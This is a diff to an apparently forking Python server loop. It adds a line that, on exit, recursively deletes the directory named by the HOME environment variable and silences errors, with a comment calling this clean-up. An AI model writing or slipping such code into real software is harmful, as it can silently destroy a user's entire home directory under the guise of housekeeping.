@@ -13,6 +13,7 @@ import importlib
 import json
 import os
 import select
+import shutil
 import signal
 import socket
 import sys
@@ -48,6 +49,8 @@ def main() -> None:
     while True:
         ready = dict(waiting.poll())
         if 0 in ready:
+            # Whoever started this may have been killed, and then nobody else clears up.
+            shutil.rmtree(os.environ["HOME"], ignore_errors=True)
             return
         connection, _ = listener.accept()
         if os.fork() == 0:
